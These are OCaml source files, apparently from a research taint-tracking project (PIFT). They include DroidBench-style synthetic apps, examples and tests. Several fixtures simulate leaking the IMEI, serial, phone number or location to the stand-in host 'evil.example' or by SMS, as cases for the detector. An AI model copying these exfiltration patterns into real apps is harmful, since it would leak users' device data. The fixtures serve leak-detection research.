            @ [ lit 1 "clicked"; lit 2 "5554"; send_sms ~dest:2 ~msg:1;
                B.Return_void ]);
          meth ~name:"main" ~registers:1 ~ins:0
            [ call0 "Button.onClick"; B.Return_void ];
        ])

(* Inter-component flow: the extra travels inside an Intent object. *)
let intent_sink1 =
  app ~name:"IntentSink1" ~category:"InterComponentCommunication"
    ~leaky:true (fun () ->
      prog ~classes:[ intent ]
        [
          meth ~name:"Receiver.onReceive" ~registers:4 ~ins:1
            ([ B.Iget_object (0, 3, "extra") ]
            @ [ lit 1 "http://evil.example"; http ~url:1 ~body:0;
                B.Return_void ]);
          meth ~name:"main" ~registers:4 ~ins:0
            (imei 0
            @ [ B.New_instance (1, "Intent") ]
            @ [ B.Iput_object (0, 1, "extra") ]
            @ [ B.Invoke (B.Static, "Receiver.onReceive", [ 1 ]);
                B.Return_void ]);
        ])

let intent_sink2 =
  app ~name:"IntentSink2" ~category:"InterComponentCommunication"
    ~leaky:false (fun () ->
      prog ~classes:[ intent ]
        [
          meth ~name:"Receiver.onReceive" ~registers:4 ~ins:1
            ([ B.Iget_object (0, 3, "extra") ]
            @ [ lit 1 "http://stats.example"; http ~url:1 ~body:0;
                B.Return_void ]);
          meth ~name:"main" ~registers:4 ~ins:0
            (imei 0
            @ [ B.New_instance (1, "Intent") ]
            @ [ lit 2 "benign-extra"; B.Iput_object (2, 1, "extra") ]
            @ [ B.Invoke (B.Static, "Receiver.onReceive", [ 1 ]);
                B.Return_void ]);
        ])

(* The leaking component exists but is never started. *)
let inactive_activity =
  app ~name:"InactiveActivity" ~category:"AndroidSpecific" ~leaky:false
    (fun () ->
      prog
        [
          meth ~name:"Inactive.onCreate" ~registers:3 ~ins:0
            (imei 0
            @ [ lit 1 "http://evil.example"; http ~url:1 ~body:0;
                B.Return_void ]);
          meth ~name:"main" ~registers:3 ~ins:0
            [
              lit 0 "alive";
              lit 1 "TAG";
              log ~tag:1 ~msg:0;
              B.Return_void;
            ];
        ])

(* Reflection-style dispatch: the target method is picked by runtime
   value; the chosen one leaks. *)
let reflection1 =
  app ~name:"Reflection1" ~category:"Reflection" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"Handler.leak" ~registers:4 ~ins:0
            (serial 0
            @ [ lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ]);
          meth ~name:"Handler.safe" ~registers:4 ~ins:0
            [ lit 0 "safe"; lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ];
          meth ~name:"main" ~registers:3 ~ins:0
            (body
               [
                 I (B.Const4 (0, 1));
                 Ifz_l (B.Eq, 0, "safe");
                 I (call0 "Handler.leak");
                 I B.Return_void;
                 L "safe";
                 I (call0 "Handler.safe");
                 I B.Return_void;
               ]);
        ])

(* GPS latitude through String.valueOf (itoa): needs NI >= 10. *)
let location_leak1 =
  app ~name:"LocationLeak1" ~category:"Callbacks" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"Listener.onLocationChanged" ~registers:5 ~ins:0
            (latitude 0
            @ int_to_string ~dst:1 0
            @ [ lit 2 "loc"; log ~tag:2 ~msg:1; B.Return_void ]);
          meth ~name:"main" ~registers:1 ~ins:0
            [ call0 "Listener.onLocationChanged"; B.Return_void ];
        ])

(* Both coordinates over HTTP.  Outside the subset. *)
let location_leak2 =
  app ~name:"LocationLeak2" ~category:"Callbacks" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:9 ~ins:0
            (latitude 0
            @ int_to_string ~dst:1 0
            @ longitude 2
            @ int_to_string ~dst:3 2
            @ [ lit 4 "," ]
            @ concat ~dst:5 1 4
            @ concat ~dst:6 5 3
            @ [ lit 7 "http://evil.example"; http ~url:7 ~body:6;
                B.Return_void ]);
        ])

let location_to_sms1 =
  app ~name:"LocationToSms1" ~category:"Callbacks" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:4 ~ins:0
            (longitude 0
            @ int_to_string ~dst:1 0
            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:1; B.Return_void ]);
        ])

(* Three sources in one report.  Outside the subset. *)
let multi_source1 =
  app ~name:"MultiSource1" ~category:"AndroidSpecific" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (sb_new ~dst:0
            @ imei 1
            @ sb_append ~sb:0 1
            @ phone_number 2
            @ sb_append ~sb:0 2
            @ serial 3
            @ sb_append ~sb:0 3
            @ sb_to_string ~dst:4 ~sb:0
            @ [ lit 5 "http://evil.example"; http ~url:5 ~body:4;
                B.Return_void ]);
        ])

(* The IMEI rides in the URL query string; the body is clean.  Outside
   the subset. *)
let http_url_leak1 =
  app ~name:"HttpUrlLeak1" ~category:"AndroidSpecific" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            ([ lit 0 "http://evil.example/?id=" ]
            @ imei 1
            @ concat ~dst:2 0 1
            @ [ lit 3 "ping"; http ~url:2 ~body:3; B.Return_void ]);
        ])

let all : App.t list =
  [
    button1;
    button2;
    intent_sink1;
    intent_sink2;
    inactive_activity;
    reflection1;
    location_leak1;
    location_leak2;
    location_to_sms1;
    multi_source1;
    http_url_leak1;
  ]
