(** A BBench-style interactive browser workload (the paper's trace study
    cites BBench-gem5 and says it analysed "a number of app executions",
    §2/§5).  The app renders a sequence of synthetic pages: parses
    markup-ish text, builds a DOM-like tree of objects, lays out strings
    through StringBuilder, and logs a benign status line.  It reads no
    sensitive source, so it doubles as a large benign control for
    overtainting studies. *)

val app : App.t
val sized : pages:int -> App.t
