(** Assembly helpers for writing workload programs tersely.

    Snippets are bytecode lists meant to be concatenated into method
    bodies; they follow Java-compiler idioms (invoke followed by
    move-result, StringBuilder chains for concatenation). *)

module B = Pift_dalvik.Bytecode

val meth :
  name:string ->
  registers:int ->
  ins:int ->
  ?handlers:Pift_dalvik.Method.handler list ->
  B.t list ->
  Pift_dalvik.Method.t

val prog :
  ?classes:(string * string list) list ->
  ?entry:string ->
  Pift_dalvik.Method.t list ->
  Pift_dalvik.Program.t
(** [entry] defaults to ["main"]. *)

val call0 : string -> B.t
(** Static invoke with no arguments. *)

val call : string -> B.v list -> B.t

val source_obj : string -> B.v -> B.t list
(** Invoke a string-returning source and move the result, e.g.
    [source_obj "TelephonyManager.getDeviceId" 0]. *)

val source_int : string -> B.v -> B.t list
(** Invoke a primitive source ([move-result]). *)

val imei : B.v -> B.t list
val serial : B.v -> B.t list
val phone_number : B.v -> B.t list
val latitude : B.v -> B.t list
val longitude : B.v -> B.t list

val lit : B.v -> string -> B.t
val concat : dst:B.v -> B.v -> B.v -> B.t list
val int_to_string : dst:B.v -> B.v -> B.t list
val send_sms : dest:B.v -> msg:B.v -> B.t
val http : url:B.v -> body:B.v -> B.t
val log : tag:B.v -> msg:B.v -> B.t

val sb_new : dst:B.v -> B.t list
val sb_append : sb:B.v -> B.v -> B.t list
(** Appends and re-binds the builder reference (result moved back). *)

val sb_to_string : dst:B.v -> sb:B.v -> B.t list

(** {2 Label-based bodies}

    Branch targets in {!B.t} are raw indices; [body] resolves symbolic
    labels instead, so loops stay readable and robust to edits. *)

type item =
  | I of B.t  (** a bytecode with no label reference *)
  | Is of B.t list
  | L of string  (** bind a label to the next bytecode *)
  | Goto_l of string
  | If_l of B.test * B.v * B.v * string
  | Ifz_l of B.test * B.v * string
  | Switch_l of B.v * (int * string) list * string

val body : item list -> B.t list
(** Raises [Failure] on unbound labels. *)

val window_gap : int -> item list
(** [n] chained gotos: roughly [3n] instructions containing no store, so
    any open tainting window (NI <= 3n) expires across the gap. *)

val clean_loop : counter:B.v -> bound:B.v -> iterations:int -> item list
(** A pure-arithmetic delay loop (clobbers [counter] and [bound]):
    roughly [iterations] iterations of clean loads/stores, used by benign
    apps to separate tainted and clean phases. *)
