let page_size = 4096

type t = { pages : (int, bytes) Hashtbl.t }

let create () = { pages = Hashtbl.create 64 }

let check_addr a =
  if a < 0 || a > 0xFFFF_FFFF then
    invalid_arg (Printf.sprintf "Memory: address 0x%x out of 32-bit space" a)

let page t idx =
  match Hashtbl.find_opt t.pages idx with
  | Some p -> p
  | None ->
      let p = Bytes.make page_size '\000' in
      Hashtbl.add t.pages idx p;
      p

let read_u8 t a =
  check_addr a;
  Char.code (Bytes.get (page t (a / page_size)) (a mod page_size))

let write_u8 t a v =
  check_addr a;
  Bytes.set (page t (a / page_size)) (a mod page_size) (Char.chr (v land 0xFF))

let read_u16 t a = read_u8 t a lor (read_u8 t (a + 1) lsl 8)

let write_u16 t a v =
  write_u8 t a v;
  write_u8 t (a + 1) (v lsr 8)

let read_u32 t a = read_u16 t a lor (read_u16 t (a + 2) lsl 16)

let write_u32 t a v =
  write_u16 t a v;
  write_u16 t (a + 2) (v lsr 16)

let read_u64 t a =
  Int64.logor
    (Int64.of_int (read_u32 t a))
    (Int64.shift_left (Int64.of_int (read_u32 t (a + 4))) 32)

let write_u64 t a v =
  write_u32 t a (Int64.to_int (Int64.logand v 0xFFFF_FFFFL));
  write_u32 t (a + 4) (Int64.to_int (Int64.shift_right_logical v 32))

let read_bytes t a len =
  let b = Bytes.create len in
  for i = 0 to len - 1 do
    Bytes.set b i (Char.chr (read_u8 t (a + i)))
  done;
  b

let write_bytes t a b =
  Bytes.iteri (fun i c -> write_u8 t (a + i) (Char.code c)) b

let pages_touched t = Hashtbl.length t.pages
