let heap_base = 0x4000_0000
let heap_limit = 0x5fff_ffff
let frame_base = 0x7000_0000
let frame_limit = 0x70ff_ffff
let stack_base = 0x7fff_0000
let scratch_base = 0x7200_0000
