(** Address-space layout of a simulated process. *)

val heap_base : int
(** Start of the managed heap (objects, strings, arrays). *)

val heap_limit : int

val frame_base : int
(** Start of the Dalvik virtual-register frame area; each invocation frame
    holds 4-byte virtual registers at [rFP + 4*v]. *)

val frame_limit : int

val stack_base : int
(** Top of the native stack (grows down via [stmdb sp!]). *)

val scratch_base : int
(** Scratch area used by native helpers (spill slots of ABI routines). *)
