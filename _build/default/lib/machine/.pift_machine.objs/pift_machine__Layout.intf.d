lib/machine/layout.mli:
