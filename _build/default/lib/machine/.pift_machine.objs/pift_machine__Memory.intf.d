lib/machine/memory.mli:
