lib/machine/layout.ml:
