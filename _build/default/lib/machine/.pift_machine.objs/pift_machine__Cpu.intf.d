lib/machine/cpu.mli: Memory Pift_arm Pift_trace
