lib/machine/cpu.ml: Array Hashtbl List Memory Pift_arm Pift_trace Pift_util Printf
