(** Sparse, paged byte-addressable memory.

    A flat 32-bit address space backed by 4 KiB pages allocated on first
    touch.  Unwritten memory reads as zero.  Multi-byte accesses are
    little-endian and may straddle page boundaries. *)

type t

val create : unit -> t

val read_u8 : t -> int -> int
val read_u16 : t -> int -> int
val read_u32 : t -> int -> int
val read_u64 : t -> int -> int64
val write_u8 : t -> int -> int -> unit
val write_u16 : t -> int -> int -> unit
val write_u32 : t -> int -> int -> unit
val write_u64 : t -> int -> int64 -> unit

val read_bytes : t -> int -> int -> bytes
val write_bytes : t -> int -> bytes -> unit

val pages_touched : t -> int
(** Number of pages materialised so far. *)
