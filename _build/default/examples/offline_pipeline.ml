(* The paper's offline methodology, end to end: execute an app once,
   dump its instruction trace with the source/sink markers (what gem5 +
   PIFT Native produce in §5), then re-analyse the dump under several
   configurations — including the provenance extension that names the
   leaked sources. *)

module Recorded = Pift_eval.Recorded
module Trace_io = Pift_eval.Trace_io
module Policy = Pift_core.Policy

let () =
  let app =
    match Pift_workloads.Droidbench.find "DeviceId1" with
    | Some a -> a
    | None -> failwith "app missing"
  in
  (* 1. execute & record *)
  let recorded = Recorded.record app in
  Printf.printf "recorded %s: %d instructions, %d markers\n"
    recorded.Recorded.name
    (Pift_trace.Trace.length recorded.Recorded.trace)
    (Array.length recorded.Recorded.markers);
  (* 2. archive the trace *)
  let path = Filename.temp_file "pift_demo" ".trace" in
  Trace_io.save recorded path;
  Printf.printf "saved to %s (%d bytes)\n" path (Unix.stat path).Unix.st_size;
  (* 3. reload and analyse offline, no re-execution *)
  let loaded = Trace_io.load path in
  List.iter
    (fun (ni, nt) ->
      let replay = Recorded.replay ~policy:(Policy.make ~ni ~nt ()) loaded in
      Printf.printf "  (NI=%2d, NT=%d): %s\n" ni nt
        (if replay.Recorded.flagged then "LEAK DETECTED" else "no leak"))
    [ (1, 1); (3, 2); (13, 3) ];
  (* 4. provenance: name the sources that reached the sink *)
  List.iter
    (fun (v : Recorded.provenance_verdict) ->
      Printf.printf "  sink %s carries: %s\n" v.Recorded.pv_kind
        (if v.Recorded.leaked = [] then "(nothing)"
         else String.concat ", " v.Recorded.leaked))
    (Recorded.replay_provenance ~policy:Policy.default loaded);
  Sys.remove path
