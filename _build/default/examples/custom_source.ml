(* Extending the runtime: define a brand-new sensitive source (a contacts
   database), a new sink (file write), and a native helper, then watch
   PIFT track a leak through them — the recipe for growing the framework
   surface beyond what ships in Pift_runtime.Api. *)

module B = Pift_dalvik.Bytecode
module Env = Pift_runtime.Env
module Manager = Pift_runtime.Manager
module Jstring = Pift_runtime.Jstring
module Policy = Pift_core.Policy
module Recorded = Pift_eval.Recorded
open Pift_workloads.Dsl

(* A source: materialise the data, register its range with the manager
   under a new label, return the reference. *)
let get_contact : Env.native =
 fun env ~args:_ ~arg_addrs:_ ->
  let s = Jstring.alloc env.Env.heap "Ada Lovelace,+44 20 7946 0958" in
  (match Jstring.data_range env.Env.heap s with
  | Some r ->
      Manager.register_source env.Env.manager ~pid:(Env.pid env)
        ~kind:"Contacts" r
  | None -> ());
  Env.set_retval_ref env s

(* A sink: hand the outgoing ranges to the manager for a taint check. *)
let file_write : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let ranges =
    match Jstring.data_range env.Env.heap args.(0) with
    | Some r -> [ r ]
    | None -> []
  in
  Manager.check_sink env.Env.manager ~pid:(Env.pid env) ~kind:"file" ranges

(* An app using them, assembled with the workload DSL. *)
let contacts_backup =
  Pift_workloads.App.make ~name:"ContactsBackup" ~category:"Custom"
    ~leaky:true ~subset48:false
    ~natives:
      [ ("Contacts.get", get_contact); ("File.write", file_write) ]
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            ([ lit 0 "backup: " ]
            @ source_obj "Contacts.get" 1
            @ concat ~dst:2 0 1
            @ [ call "File.write" [ 2 ]; B.Return_void ]);
        ])

let () =
  let recorded = Recorded.record contacts_backup in
  let replay = Recorded.replay ~policy:Policy.default recorded in
  List.iter
    (fun (v : Recorded.verdict) ->
      Printf.printf "sink %-5s -> %s\n" v.Recorded.kind
        (if v.Recorded.flagged then "LEAK DETECTED" else "clean"))
    replay.Recorded.verdicts;
  List.iter
    (fun (v : Recorded.provenance_verdict) ->
      Printf.printf "sink %-5s carries: %s\n" v.Recorded.pv_kind
        (String.concat ", " v.Recorded.leaked))
    (Recorded.replay_provenance ~policy:Policy.default recorded);
  (* the new source participates in threshold analysis like any other *)
  List.iter
    (fun ni ->
      let flagged =
        (Recorded.replay ~policy:(Policy.make ~ni ~nt:3 ()) recorded)
          .Recorded.flagged
      in
      Printf.printf "NI=%-2d -> %s\n" ni
        (if flagged then "detected" else "missed"))
    [ 1; 2; 3 ]
