examples/offline_pipeline.ml: Array Filename List Pift_core Pift_eval Pift_trace Pift_workloads Printf String Sys Unix
