examples/quickstart.ml: List Pift_baseline Pift_core Pift_dalvik Pift_runtime Pift_trace Pift_workloads Printf
