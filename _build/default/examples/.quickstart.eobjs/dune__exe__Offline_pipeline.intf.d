examples/offline_pipeline.mli:
