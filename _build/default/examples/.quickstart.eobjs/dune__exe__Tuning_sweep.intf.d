examples/tuning_sweep.mli:
