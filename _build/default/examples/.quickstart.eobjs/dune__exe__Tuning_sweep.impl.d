examples/tuning_sweep.ml: List Pift_core Pift_eval Pift_workloads Printf
