examples/custom_source.mli:
