examples/implicit_flow.mli:
