examples/implicit_flow.ml: List Pift_core Pift_eval Pift_workloads Printf
