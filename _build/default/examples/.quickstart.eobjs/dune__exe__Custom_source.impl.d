examples/custom_source.ml: Array List Pift_core Pift_dalvik Pift_eval Pift_runtime Pift_workloads Printf String
