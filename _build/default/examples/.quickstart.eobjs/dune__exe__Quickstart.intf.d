examples/quickstart.mli:
