(* Explore the NI x NT parameter space on a handful of apps: how the
   window size trades detection coverage against tainted-state growth.
   A compact version of the Fig. 11 / Fig. 14 studies. *)

module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Recorded = Pift_eval.Recorded

let apps =
  [ "StringConcat1"; "SbChain1"; "Loop1"; "LocationLeak1"; "ImplicitFlow2" ]

let () =
  let recordings =
    List.map
      (fun name ->
        match Pift_workloads.Droidbench.find name with
        | Some app -> (name, Recorded.record app)
        | None -> failwith ("unknown app " ^ name))
      apps
  in
  Printf.printf "%-16s" "NI x NT";
  List.iter (fun (name, _) -> Printf.printf "%16s" name) recordings;
  print_newline ();
  let combos = [ (2, 1); (3, 2); (6, 2); (10, 3); (13, 3); (18, 3) ] in
  List.iter
    (fun (ni, nt) ->
      Printf.printf "%-16s" (Printf.sprintf "(%d, %d)" ni nt);
      List.iter
        (fun (_, recorded) ->
          let replay =
            Recorded.replay ~policy:(Policy.make ~ni ~nt ()) recorded
          in
          let s = replay.Recorded.stats in
          Printf.printf "%16s"
            (Printf.sprintf "%s %4dB"
               (if replay.Recorded.flagged then "HIT " else "miss")
               s.Tracker.max_tainted_bytes))
        recordings;
      print_newline ())
    combos;
  print_newline ();
  print_endline
    "HIT = leak detected at the sink; B = peak tainted bytes (overtainting \
     cost).";
  print_endline
    "Note the staircase: string building needs NT>=2, loops NI>=6, the \
     location itoa NI>=10, and the hard implicit flow only falls at NI>=18."
