(* The §4.2 implicit-flow discussion, executable.

   ImplicitFlow1 obfuscates the IMEI through a switch:

     for (char c : imei.toCharArray())
       switch (c) { case '0': result += 'a'; ... }

   No data flows from c to result — only control flow does.  PIFT still
   catches it: the constant store in each case arm lands a few
   instructions after the tainted comparison load, inside the tainting
   window.  ImplicitFlow2 separates the comparison from the store by 18
   instructions of clean control flow and becomes the paper's single
   false negative at (NI=13, NT=3). *)

module Policy = Pift_core.Policy
module Recorded = Pift_eval.Recorded

let show name =
  match Pift_workloads.Droidbench.find name with
  | None -> failwith ("unknown app " ^ name)
  | Some app ->
      let recorded = Recorded.record app in
      let dift = Recorded.replay_dift recorded in
      Printf.printf "%s:\n" name;
      Printf.printf
        "  full register-level DIFT: %s (implicit flows are invisible to \
         exact data-flow tracking)\n"
        (if dift.Recorded.dift_flagged then "detected" else "NOT detected");
      List.iter
        (fun ni ->
          let replay =
            Recorded.replay ~policy:(Policy.make ~ni ~nt:3 ()) recorded
          in
          Printf.printf "  PIFT at (NI=%-2d, NT=3): %s\n" ni
            (if replay.Recorded.flagged then "detected" else "not detected"))
        [ 5; 7; 13; 17; 18 ];
      print_newline ()

let () =
  show "ImplicitFlow1";
  show "ImplicitFlow2";
  print_endline
    "ImplicitFlow1 falls to temporal locality at NI>=7 even though no data \
     flows;";
  print_endline
    "ImplicitFlow2 needs NI=18 — it is the 2% false negative of the \
     paper's Fig. 11."
