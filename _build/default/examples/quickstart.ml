(* Quickstart: build the paper's §2 example from scratch and watch PIFT
   catch it.

     String msgX = "type=sms";
     msgY = msgX + "&imei=" + telMan.getDeviceId();
     msgZ = msgY + "&dummy";
     sms.sendTextMessage(phNum, null, msgZ, ...);

   This walks through the whole public API: assemble a Dalvik-style
   program, execute it on the simulated CPU with live PIFT and full-DIFT
   trackers attached, and inspect the verdicts. *)

module B = Pift_dalvik.Bytecode
module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Full_dift = Pift_baseline.Full_dift
module Manager = Pift_runtime.Manager
open Pift_workloads.Dsl

let program () =
  prog
    [
      meth ~name:"main" ~registers:8 ~ins:0
        ([ lit 0 "type=sms" ]
        @ imei 1 (* invoke getDeviceId + move-result-object *)
        @ [ lit 2 "&imei=" ]
        @ concat ~dst:3 0 2
        @ concat ~dst:4 3 1 (* msgY = "type=sms&imei=" + IMEI *)
        @ [ lit 5 "&dummy" ]
        @ concat ~dst:6 4 5 (* msgZ *)
        @ [ lit 7 "5554"; send_sms ~dest:7 ~msg:6; B.Return_void ]);
    ]

let () =
  (* Wire the machinery by hand (the Recorded module automates this). *)
  let trace = Pift_trace.Trace.create () in
  let pift = Tracker.create ~policy:Policy.default () in
  let dift = Full_dift.create () in
  let sink e =
    Pift_trace.Trace.add trace e;
    Tracker.observe pift e;
    Full_dift.observe dift e
  in
  let env = Pift_runtime.Env.create ~sink () in
  (* Attach both trackers to the PIFT manager: sources taint, sinks check. *)
  Manager.add_tracker env.Pift_runtime.Env.manager ~name:"pift"
    ~taint:(Tracker.taint_source pift)
    ~check:(Tracker.is_tainted pift);
  Manager.add_tracker env.Pift_runtime.Env.manager ~name:"full-dift"
    ~taint:(Full_dift.taint_source dift)
    ~check:(Full_dift.is_tainted dift);
  let vm = Pift_dalvik.Vm.create env (program ()) in
  (match Pift_dalvik.Vm.run vm with
  | `Ok -> ()
  | `Uncaught _ -> print_endline "app crashed (uncaught exception)");
  Printf.printf "executed %d instructions (%d loads, %d stores)\n"
    (Pift_trace.Trace.length trace)
    (Pift_trace.Trace.loads trace)
    (Pift_trace.Trace.stores trace);
  List.iter
    (fun (v : Manager.verdict) ->
      Printf.printf "sink %s:\n" v.Manager.sink;
      List.iter
        (fun (tracker, tainted) ->
          Printf.printf "  %-10s %s\n" tracker
            (if tainted then "LEAK DETECTED" else "clean"))
        v.Manager.tainted)
    (Manager.verdicts env.Pift_runtime.Env.manager);
  let stats = Tracker.stats pift in
  Printf.printf
    "PIFT processed %d memory events: %d taintings, %d untaintings, peak %d \
     tainted bytes\n"
    stats.Tracker.lookups stats.Tracker.taint_ops stats.Tracker.untaint_ops
    stats.Tracker.max_tainted_bytes;
  Printf.printf
    "full DIFT needed %d per-instruction propagations for the same answer\n"
    (Full_dift.propagations dift)
