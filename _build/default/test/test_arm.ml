(* Unit tests for Pift_arm: registers, conditions, instructions, the
   assembler. *)

module Reg = Pift_arm.Reg
module Cond = Pift_arm.Cond
module Insn = Pift_arm.Insn
module Asm = Pift_arm.Asm

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

let test_reg () =
  checki "r0 index" 0 (Reg.index Reg.R0);
  checki "pc index" 15 (Reg.index Reg.PC);
  Array.iteri
    (fun i r -> checkb "roundtrip" true (Reg.equal (Reg.of_index i) r))
    Reg.all;
  checkb "succ r0" true (Reg.equal (Reg.succ Reg.R0) Reg.R1);
  checkb "succ r12" true (Reg.equal (Reg.succ Reg.R12) Reg.SP);
  Alcotest.check_raises "succ pc"
    (Invalid_argument "Reg.succ: no successor of PC") (fun () ->
      ignore (Reg.succ Reg.PC));
  Alcotest.check_raises "of_index range"
    (Invalid_argument "Reg.of_index: out of range") (fun () ->
      ignore (Reg.of_index 16));
  (* interpreter aliases from the paper's listings *)
  checks "rPC" "r4" (Reg.to_string Reg.rpc);
  checks "rFP" "r5" (Reg.to_string Reg.rfp);
  checks "rINST" "r7" (Reg.to_string Reg.rinst);
  checks "rIBASE" "r8" (Reg.to_string Reg.ribase);
  checks "sp" "sp" (Reg.to_string Reg.SP)

let test_cond () =
  let t c fst snd expect =
    checkb
      (Printf.sprintf "%s %x %x" (Cond.to_string c) fst snd)
      expect
      (Cond.holds c ~fst ~snd)
  in
  t Cond.Always 0 1 true;
  t Cond.Eq 5 5 true;
  t Cond.Eq 5 6 false;
  t Cond.Ne 5 6 true;
  (* signed: 0xFFFFFFFF is -1 *)
  t Cond.Lt 0xFFFF_FFFF 0 true;
  t Cond.Ge 0 0xFFFF_FFFF true;
  t Cond.Gt 1 0xFFFF_FFFF true;
  t Cond.Le 0xFFFF_FFFF 0xFFFF_FFFF true;
  (* unsigned: 0xFFFFFFFF is huge *)
  t Cond.Hi 0xFFFF_FFFF 0 true;
  t Cond.Lo 0 0xFFFF_FFFF true;
  t Cond.Hs 5 5 true;
  t Cond.Ls 5 5 true

let test_insn_meta () =
  checki "byte" 1 (Insn.width_bytes Insn.Byte);
  checki "half" 2 (Insn.width_bytes Insn.Half);
  checki "word" 4 (Insn.width_bytes Insn.Word);
  checki "dword" 8 (Insn.width_bytes Insn.Dword);
  let ldr = Insn.Ldr (Insn.Half, Reg.R6, Insn.Offset (Reg.R1, Insn.Reg Reg.R4)) in
  let str = Insn.Str (Insn.Word, Reg.R0, Insn.Offset (Reg.R5, Insn.Imm 0)) in
  checkb "ldr is load" true (Insn.is_load ldr);
  checkb "ldr not store" false (Insn.is_store ldr);
  checkb "str is store" true (Insn.is_store str);
  checkb "ldm is load" true (Insn.is_load (Insn.Ldm (Reg.SP, [ Reg.R0 ])));
  checkb "stm is store" true (Insn.is_store (Insn.Stm (Reg.SP, [ Reg.R0 ])));
  checkb "mov not memory" false
    (Insn.is_memory (Insn.Mov (Reg.R0, Insn.Imm 1)))

let test_insn_pp () =
  let s i = Insn.to_string i in
  checks "fig1 ldrh" "ldrh r6, [r1, r4]"
    (s (Insn.Ldr (Insn.Half, Reg.R6, Insn.Offset (Reg.R1, Insn.Reg Reg.R4))));
  checks "get_vreg" "ldr r1, [r5, r3, lsl #2]"
    (s
       (Insn.Ldr
          ( Insn.Word,
            Reg.R1,
            Insn.Offset (Reg.R5, Insn.Shifted (Reg.R3, Insn.Lsl 2)) )));
  checks "fetch" "ldrh r7, [r4, #4]!"
    (s (Insn.Ldr (Insn.Half, Reg.R7, Insn.Pre (Reg.R4, Insn.Imm 4))));
  checks "adds" "adds r3, r3, #1"
    (s (Insn.Alu (Insn.Add, true, Reg.R3, Reg.R3, Insn.Imm 1)));
  checks "mul" "mul r0, r1, r0"
    (s (Insn.Alu (Insn.Mul, false, Reg.R0, Reg.R1, Insn.Reg Reg.R0)));
  checks "ubfx" "ubfx r9, r7, #8, #4" (s (Insn.Ubfx (Reg.R9, Reg.R7, 8, 4)));
  checks "branch" "bge .L7" (s (Insn.B (Cond.Ge, 7)));
  checks "bx lr" "bx lr" (s (Insn.Bx Reg.LR));
  checks "stmdb" "stmdb sp!, {r4, r5, r7}"
    (s (Insn.Stm (Reg.SP, [ Reg.R4; Reg.R5; Reg.R7 ])))

let test_asm_labels () =
  let a = Asm.create () in
  Asm.emit a (Insn.Mov (Reg.R0, Insn.Imm 0));
  Asm.label a "loop";
  checki "here" 1 (Asm.here a);
  Asm.emit a (Insn.Alu (Insn.Add, false, Reg.R0, Reg.R0, Insn.Imm 1));
  Asm.emit a (Insn.Cmp (Reg.R0, Insn.Imm 10));
  Asm.branch a Cond.Lt "loop";
  Asm.branch a Cond.Always "end";
  Asm.label a "end";
  Asm.ret a;
  let frag = Asm.assemble a in
  checki "length" 6 (Array.length frag);
  (match frag.(3) with
  | Insn.B (Cond.Lt, 1) -> ()
  | i -> Alcotest.failf "backward branch wrong: %s" (Insn.to_string i));
  match frag.(4) with
  | Insn.B (Cond.Always, 5) -> ()
  | i -> Alcotest.failf "forward branch wrong: %s" (Insn.to_string i)

let test_asm_errors () =
  let a = Asm.create () in
  Asm.branch a Cond.Always "nowhere";
  (try
     ignore (Asm.assemble a);
     Alcotest.fail "expected failure on unbound label"
   with Failure _ -> ());
  let b = Asm.create () in
  Asm.label b "x";
  Alcotest.check_raises "duplicate label"
    (Invalid_argument "Asm.label: \"x\" already bound") (fun () ->
      Asm.label b "x")

let test_asm_call () =
  let a = Asm.create () in
  Asm.call a "f";
  Asm.ret a;
  Asm.label a "f";
  Asm.ret a;
  let frag = Asm.assemble a in
  match frag.(0) with
  | Insn.Bl 2 -> ()
  | i -> Alcotest.failf "call wrong: %s" (Insn.to_string i)

(* --- Parser ------------------------------------------------------------ *)

module Parse = Pift_arm.Parse

let test_parse_basic () =
  let ok s expect =
    match Parse.insn s with
    | Ok i -> checks s expect (Insn.to_string i)
    | Error e -> Alcotest.failf "parse %S failed: %s" s e
  in
  ok "ldrh r6, [r1, r4]" "ldrh r6, [r1, r4]";
  ok "ldr r1, [r5, r3, lsl #2]" "ldr r1, [r5, r3, lsl #2]";
  ok "ldrh r7, [r4, #4]!" "ldrh r7, [r4, #4]!";
  ok "strb r0, [r1], #-1" "strb r0, [r1], #-1";
  ok "adds r3, r3, #1" "adds r3, r3, #1";
  ok "mul r0, r1, r0" "mul r0, r1, r0";
  ok "MOV R0, #7" "mov r0, #7";
  ok "bge .L7" "bge .L7";
  ok "b .L0" "b .L0";
  ok "bl .L3" "bl .L3";
  ok "bx lr" "bx lr";
  ok "stmdb sp!, {r4, r5, r7}" "stmdb sp!, {r4, r5, r7}";
  ok "ldmia sp!, {r0}" "ldmia sp!, {r0}";
  ok "ubfx r9, r7, #8, #4" "ubfx r9, r7, #8, #4";
  ok "udiv r3, r1, r2" "udiv r3, r1, r2";
  ok "nop" "nop"

let test_parse_errors () =
  let bad s =
    match Parse.insn s with
    | Error _ -> ()
    | Ok i -> Alcotest.failf "parse %S accepted as %s" s (Insn.to_string i)
  in
  bad "frobnicate r0";
  bad "mov r99, #1";
  bad "ldr r0";
  bad "ldr r0, r1";
  bad "b somewhere" (* symbolic labels need a fragment *);
  bad "add r0, #1" (* missing source register *);
  bad ""

let test_parse_fragment () =
  let frag =
    Parse.fragment_exn
      {|
        @ a char-copy loop
        mov r3, #0
      loop:
        cmp r3, r5
        bge end
        ldrh r6, [r1, r3, lsl #1]
        strh r6, [r0, r3, lsl #1]
        add r3, r3, #1
        b loop
      end:
        bx lr
      |}
  in
  checki "length" 8 (Array.length frag);
  (match frag.(2) with
  | Insn.B (Cond.Ge, 7) -> ()
  | i -> Alcotest.failf "bge resolved wrong: %s" (Insn.to_string i));
  (* execute it for good measure *)
  let m = Pift_machine.Memory.create () in
